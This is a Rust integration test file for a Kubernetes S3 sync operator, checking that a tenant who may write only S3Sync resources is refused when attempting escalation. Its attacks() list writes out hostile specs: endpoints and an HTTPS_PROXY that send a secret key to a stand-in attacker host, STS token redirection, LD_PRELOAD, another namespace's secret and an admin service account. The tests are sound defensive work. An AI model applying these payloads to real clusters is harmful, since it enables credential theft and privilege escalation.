//! Many tenants, one operator: what somebody who may write S3Syncs, and nothing else, can reach.

use serde_json::{Value, json};

use crate::support::{ENDPOINT, Site, api, condition, kubectl, release, run, until};

/// Somebody who may do everything with the S3Syncs of a namespace, and nothing else.
const TENANT: &str = "mallory";

/// Where an attacker would listen.
const ELSEWHERE: &str = "http://listener.attacker:9000";

fn tenant(site: &Site) {
    let group = "/apis/rbac.authorization.k8s.io/v1/namespaces";
    let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "tenant"},
        "rules": [{"apiGroups": ["s3sync.dev"], "resources": ["s3syncs"], "verbs": ["*"]}]});
    api::apply(&format!("{group}/{}/roles", site.namespace), &role).expect("a Role");
    let binding = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "tenant"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": TENANT}]});
    api::apply(&format!("{group}/{}/rolebindings", site.namespace), &binding).expect("bound");
    until("the tenant's rights", || {
        let may = |verb: &str, what: &str| {
            kubectl(&["auth", "can-i", verb, what, "--namespace", &site.namespace, "--as", TENANT]).stdout.trim()
                == "yes"
        };
        if may("create", "s3syncs.s3sync.dev") && !may("get", "secrets") { Ok(()) } else { Err("not yet".to_owned()) }
    });
}

/// `kubectl apply` as the tenant; what the API server says where it refuses.
fn apply(site: &Site, sync: &Value, dry: bool) -> Result<(), String> {
    let mut args = vec!["--as", TENANT, "--namespace", &site.namespace, "apply", "--server-side", "--filename", "-"];
    if dry {
        args.push("--dry-run=server");
    }
    let printed = run("kubectl", &args, Some(&sync.to_string()));
    if printed.ok { Ok(()) } else { Err(printed.stderr) }
}

/// What a tenant may try, and the flag that keeps them from it.
fn attacks() -> Vec<(&'static str, Value, &'static str)> {
    let variable = |variable: Value| json!({"worker": {"env": [variable]}});
    let secret =
        json!({"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": "other", "key": "AWS_SECRET_ACCESS_KEY"}}});
    vec![
        ("endpoint-of-source", json!({"source": {"endpoint": ELSEWHERE}}), "--allowed-endpoint"),
        ("endpoint-of-destination", json!({"destination": {"endpoint": ELSEWHERE}}), "--allowed-endpoint"),
        ("aws", json!({"source": {"endpoint": null}}), "--allowed-endpoint"),
        ("endpoint-by-variable", variable(json!({"name": "AWS_ENDPOINT_URL", "value": ELSEWHERE})), "--worker-env"),
        ("small-letters", variable(json!({"name": "aws_endpoint_url", "value": ELSEWHERE})), "--worker-env"),
        (
            "token-to-sts",
            json!({"worker": {"env": [
                {"name": "AWS_ENDPOINT_URL_STS", "value": ELSEWHERE}, {"name": "AWS_ROLE_ARN", "value": "arn:aws:iam::1:role/x"},
                {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/var/run/secrets/kubernetes.io/serviceaccount/token"}]}}),
            "--worker-env",
        ),
        (
            "credentials-from-elsewhere",
            variable(json!({"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": ELSEWHERE})),
            "--worker-env",
        ),
        (
            "proxy",
            variable(
                json!({"name": "HTTPS_PROXY", "value": "http://$(S3SYNC_SOURCE_AWS_SECRET_ACCESS_KEY)@listener.attacker:3128"}),
            ),
            "--worker-env",
        ),
        (
            "reference",
            variable(json!({"name": "PLAIN", "value": "$(S3SYNC_SOURCE_AWS_SECRET_ACCESS_KEY)"})),
            "--worker-env",
        ),
        ("another-secret", variable(secret), "--worker-env"),
        ("library", variable(json!({"name": "LD_PRELOAD", "value": "/scratch/x.so"})), "--worker-env"),
        (
            "certificates",
            variable(json!({"name": "ssl_cert_file", "value": "/etc/s3sync/source-ca/ca.crt"})),
            "--worker-env",
        ),
        (
            "kubernetes",
            variable(json!({"name": "KUBERNETES_SERVICE_HOST", "value": "listener.attacker"})),
            "--worker-env",
        ),
        ("account", json!({"worker": {"serviceAccountName": "admin"}}), "--allowed-service-account"),
        (
            "injector",
            json!({"worker": {"podAnnotations": {"vault.hashicorp.com/agent-inject": "true"}}}),
            "--allowed-pod-annotation",
        ),
        ("identity", json!({"worker": {"podLabels": {"azure.workload.identity/use": "true"}}}), "--allowed-pod-label"),
        ("priority", json!({"worker": {"priorityClassName": "system-cluster-critical"}}), "--allowed-priority-class"),
        ("replicas", json!({"worker": {"replicas": 11}}), "--max-replicas"),
    ]
}

#[test]
fn a_tenant_who_may_write_s3syncs_alone_reaches_nothing_more_under_lockdown() {
    let _alone = release::alone();
    let site = Site::within_alone("tenant");
    tenant(&site);
    site.secret("other", "another-access-key", "another-secret-key");
    for account in ["admin", "default"] {
        let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": account}});
        api::apply(&api::core(&site.namespace, "serviceaccounts"), &account).expect("an account");
    }
    let theirs = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings-cursor"}, "data": {"password": "x"}});
    api::apply(&api::core(&site.namespace, "configmaps"), &theirs).expect("a ConfigMap");
    let lockdown = ["tenancy.lockdown=true", &format!("tenancy.allowedEndpoints={{{ENDPOINT}}}")];
    release::install(&lockdown);

    // What is allowed works, with the defaults that the admin gives.
    let rows = site.put_many("orders/", 2, 3);
    let plain = json!({"worker": {"resources": null, "env": [{"name": "TZ", "value": "Europe/Berlin"}]}});
    apply(&site, &site.sync("orders", "orders/", plain), false).expect("accepted");
    site.succeeded("orders", 1);
    site.has_each_row_once("orders/", rows);
    let job = &site.jobs("orders")[0]["spec"];
    assert_eq!(
        (&job["activeDeadlineSeconds"], &job["template"]["spec"]["containers"][0]["resources"]["limits"]["memory"]),
        (&json!(86_400), &json!("1Gi"))
    );

    for (name, spec, _) in attacks() {
        apply(&site, &site.sync(name, "orders/", spec), false).expect("only the operator refuses it yet");
    }
    for (name, _, flag) in attacks() {
        let ready = site.condition(name, "Ready", "False", "NotAllowed");
        let message = ready["message"].as_str().expect("a message");
        assert!(message.starts_with("spec.") && message.contains(flag), "{name}: {message}");
    }
    // The name of a resource chooses no ConfigMap for its workers.
    apply(&site, &site.sync("settings", "orders/", json!({})), false).expect("accepted");
    site.condition("settings", "Ready", "False", "CursorInvalid");
    let role = format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{}/roles/settings-worker", site.namespace);
    assert_eq!(api::find(&role), None, "a right to somebody else's ConfigMap");
    // Whoever waits for an attack to run waits in vain.
    std::thread::sleep(std::time::Duration::from_secs(5));
    for (name, _, _) in attacks().into_iter().chain([("settings", json!({}), "")]) {
        assert!(site.jobs(name).is_empty(), "{name} has a Job");
        assert!(name == "settings" || site.cursor(name).is_none(), "{name} has a cursor");
        api::delete(&site.path(name), None);
    }

    // The same, said when it is applied.
    release::install(&[lockdown[0], lockdown[1], "tenancy.admissionPolicy.enabled=true"]);
    let (first, spec, _) = attacks().remove(0);
    until("the admission policy", || match apply(&site, &site.sync(first, "orders/", spec.clone()), true) {
        Err(refusal) if refusal.contains("--allowed-endpoint") => Ok(()),
        other => Err(format!("{other:?}")),
    });
    for (name, spec, flag) in attacks() {
        let refusal = apply(&site, &site.sync(name, "orders/", spec), true).expect_err(name);
        assert!(refusal.contains("s3sync-tenancy") && refusal.contains(flag), "{name}: {refusal}");
    }
    apply(&site, &site.sync("orders-2", "orders/", json!({"worker": {"env": [{"name": "TZ", "value": "UTC"}]}})), true)
        .expect("allowed");
    release::install(&[]);

    // Without any rule: the controller's own account.
    let path = format!("{}/own", api::syncs(release::NAMESPACE));
    let mut own = site.sync("own", "orders/", json!({"worker": {"serviceAccountName": release::RELEASE}}));
    own["metadata"]["namespace"] = json!(release::NAMESPACE);
    api::apply(&api::syncs(release::NAMESPACE), &own).expect("accepted");
    until("a refusal", || {
        let sync = api::get(&path);
        let ready = condition(&sync, "Ready").unwrap_or_default();
        if ready["reason"] == "NotAllowed"
            && ready["message"].as_str().is_some_and(|text| text.contains("the operator's own"))
        {
            Ok(())
        } else {
            Err(sync["status"].to_string())
        }
    });
    api::delete(&path, None);
}

#[test]
fn an_operator_of_some_namespaces_serves_each_and_leaves_the_others_alone() {
    let _alone = release::alone();
    let (one, two, theirs) = (Site::within_alone("one"), Site::within_alone("two"), Site::within_alone("not"));
    let watched = format!("watchNamespaces={{{},{}}}", one.namespace, two.namespace);
    release::install(&["replicas=1", &watched, "maxConcurrentRuns=1", "maxConcurrentRunsPerNamespace=1"]);
    for site in [&one, &two, &theirs] {
        site.put("orders/a.csv", "id\n0\n");
    }
    // A namespace with many due resources does not hold up the other.
    let many: Vec<String> = (0..6).map(|n| format!("orders-{n}")).collect();
    for name in &many {
        one.apply(&one.sync(name, "orders/", json!({}))).expect("accepted");
    }
    for site in [&two, &theirs] {
        site.apply(&site.sync("orders", "orders/", json!({}))).expect("accepted");
    }
    two.succeeded("orders", 1);
    let done = many.iter().filter(|name| !one.get(name)["status"]["lastRun"].is_null()).count();
    assert!(done < many.len(), "the other namespace had all its runs first");
    for name in &many {
        one.succeeded(name, 1);
    }
    assert!(theirs.jobs("orders").is_empty());
    let controller = format!("system:serviceaccount:{}:{}", release::NAMESPACE, release::RELEASE);
    let denied = kubectl(&[
        "auth",
        "can-i",
        "list",
        "s3syncs.s3sync.dev",
        "--namespace",
        &theirs.namespace,
        "--as",
        &controller,
    ]);
    assert_eq!(denied.stdout.trim(), "no");
    release::install(&[]);
    theirs.succeeded("orders", 1);
}
